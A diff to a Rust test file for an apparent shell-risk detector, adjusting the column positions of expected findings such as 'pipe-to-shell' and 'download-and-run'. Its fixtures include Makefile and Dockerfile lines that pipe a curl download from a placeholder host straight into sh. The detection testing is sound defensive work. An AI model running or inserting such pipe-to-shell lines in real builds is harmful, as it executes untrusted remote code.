@@ -20,9 +20,9 @@ fn facts_stand_on_the_command() {
         "5:3 curl",
         "5:3 download",
         "5:3 net->fs-write",
-        "5:35 download-and-run",
-        "5:35 net->process",
-        "5:35 sh",
+        "5:36 download-and-run",
+        "5:36 net->process",
+        "5:36 sh",
     ] {
         assert!(got.iter().any(|name| name == wanted), "{wanted} in {got:?}");
     }
@@ -43,9 +43,9 @@ fn what_cannot_be_read_says_where_and_is_lexed() {
 #[test]
 fn shell_in_other_files() {
     let make = names("Makefile", "all:\n\t@curl -s https://a.invalid/x | sh\n");
-    assert!(make.iter().any(|name| name == "2:37 pipe-to-shell"), "{make:?}");
+    assert!(make.iter().any(|name| name == "2:33 pipe-to-shell"), "{make:?}");
     let docker = names("Dockerfile", "FROM a\nRUN apt-get update \\\n && curl -s a.invalid/x | sh\n");
-    assert!(docker.iter().any(|name| name == "3:28 pipe-to-shell"), "{docker:?}");
+    assert!(docker.iter().any(|name| name == "3:27 pipe-to-shell"), "{docker:?}");
 }
 
 #[test]
